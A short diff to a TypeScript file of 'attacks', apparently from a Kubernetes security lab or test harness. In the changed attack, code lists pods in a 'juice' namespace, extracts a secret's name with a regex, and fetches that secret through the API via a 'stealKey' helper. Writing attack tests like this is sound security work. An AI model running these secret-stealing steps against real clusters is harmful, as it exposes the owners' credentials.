@@ -15,7 +15,7 @@ export const attacks: Attack[] = [
     name: 'the name of the secret, found in the list of pods',
     run: async (tools) => {
       const pods = await print(tools, command(askApi({ path: '/api/v1/namespaces/juice/pods' })))
-      const [, name] = /"pulp-pay-[\s\S]*?"secretRef":\s*\{\s*"name":\s*"([\w-]+)"/.exec(pods) ?? []
+      const [, name] = /"secretRef":\s*\{\s*"name":\s*"(pulp[\w-]+)"/.exec(pods) ?? []
       tools.expect(name !== undefined, `the list of pods is ${pods.slice(0, 120)}`)
       await stealKey(tools, askApi({ path: `${SECRETS}/${name}` }))
     },
